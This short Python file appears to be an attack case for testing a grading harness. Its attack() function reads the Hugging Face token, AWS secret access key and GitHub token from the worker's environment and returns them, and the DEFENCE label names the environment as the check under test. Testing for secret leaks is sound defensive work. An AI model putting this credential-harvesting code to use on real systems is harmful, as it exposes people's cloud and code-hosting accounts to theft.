"""Take the tokens and keys the grader was started with from the worker's own environment."""
import os

DEFENCE = "environment"


def attack(t):
    return " ".join(os.environ.get(k, "") for k in ("HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"))
